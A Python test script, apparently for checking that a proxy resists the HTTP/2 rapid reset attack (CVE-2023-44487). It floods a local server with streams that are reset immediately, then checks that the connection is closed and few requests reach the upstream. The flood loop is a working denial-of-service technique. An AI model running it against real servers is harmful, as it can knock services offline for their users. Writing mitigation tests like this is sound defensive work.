"""HTTP/2 rapid reset (CVE-2023-44487) against the proxy: open a stream, reset it at once,
repeat, until the server closes the connection. Prints how many streams it took and how
many requests reached the upstream; fails if the server never closes or if the upstream
saw more than a handful of them.

    python3 rapid_reset.py HOST PORT CAFILE UPSTREAM_LOG [MAX_STREAMS]
"""
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events


def main():
    host, port, cafile, upstream_log = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
    limit = int(sys.argv[5]) if len(sys.argv) > 5 else 100_000
    ctx = ssl.create_default_context(cafile=cafile)
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", port))
    sock = ctx.wrap_socket(raw, server_hostname=host)
    assert sock.selected_alpn_protocol() == "h2", "server did not choose h2"
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    sock.settimeout(0.0)
    sent, closed, goaway = 0, False, None
    headers = [(":method", "GET"), (":scheme", "https"), (":authority", host), (":path", "/rr")]
    start = time.monotonic()
    while sent < limit and not closed:
        for _ in range(100):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, headers, end_stream=True)
            conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
            sent += 1
        try:
            sock.sendall(conn.data_to_send())
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, BlockingIOError):
            closed = True
        try:
            while True:
                data = sock.recv(65536)
                if not data:
                    closed = True
                    break
                for ev in conn.receive_data(data):
                    if isinstance(ev, h2.events.ConnectionTerminated):
                        goaway, closed = ev.error_code, True
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except (ConnectionResetError, ssl.SSLError, h2.exceptions.ProtocolError):
            closed = True
    took = time.monotonic() - start
    time.sleep(1)  # let anything forwarded arrive
    reached = sum(1 for line in open(upstream_log) if line.startswith("/rr"))
    if goaway is not None:
        try:
            how = f"GOAWAY {h2.errors.ErrorCodes(goaway).name}"
        except ValueError:
            how = f"GOAWAY {goaway}"
    else:
        how = "connection closed"
    print(f"rapid reset: {how} after {sent} reset streams in {took:.1f} s, upstream saw {reached}")
    if not closed:
        print(f"  the server accepted {limit} reset streams without closing", file=sys.stderr)
        sys.exit(1)
    if reached > 100:
        print("  reset streams reached the upstream", file=sys.stderr)
        sys.exit(1)


if __name__ == "__main__":
    main()
